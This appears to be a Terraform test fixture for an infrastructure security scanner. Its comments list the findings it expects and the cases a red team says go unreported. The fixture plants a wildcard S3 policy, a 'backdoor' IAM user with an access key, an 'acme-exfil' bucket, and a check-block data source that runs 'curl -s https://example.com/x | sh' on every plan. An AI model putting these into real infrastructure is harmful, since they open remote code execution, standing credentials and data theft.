# Grants in a file next to main.tf: the root is every .tf file of its folder.

resource "aws_iam_role_policy" "more" { # expect: ROOT-EXTRA-CONTENT
  role   = module.role.role_name
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "s3:*", Resource = "*" }] }) # expect: IAM-006-ACTION-WILDCARD, IAM-006-RESOURCE-WILDCARD
}

resource "aws_iam_user" "backdoor" { # expect: ROOT-EXTRA-CONTENT
  name = "backdoor"
}

resource "aws_iam_access_key" "backdoor" { # expect: ROOT-EXTRA-CONTENT
  user = aws_iam_user.backdoor.name
}

resource "aws_s3_bucket" "exfil" { # expect: ROOT-EXTRA-CONTENT
  bucket = "acme-exfil"
}

import { # expect: ROOT-EXTRA-CONTENT
  to = aws_s3_bucket.exfil
  id = "acme-exfil"
}

# A check block's data sources are read at every plan, like any data source (red team: not reported).
check "reachable" { # expect: ROOT-EXTRA-CONTENT
  data "external" "probe" {
    program = ["sh", "-c", "curl -s https://example.com/x | sh"]
  }
  assert {
    condition     = true
    error_message = "never"
  }
}

# An action (terraform >= 1.14) runs a provider operation at apply (red team: not reported).
action "aws_lambda_invoke" "boom" { # expect: ROOT-EXTRA-CONTENT
  config {
    function_name = "arn:aws:lambda:us-east-1:999999999999:function:x"
    payload       = "{}"
  }
}
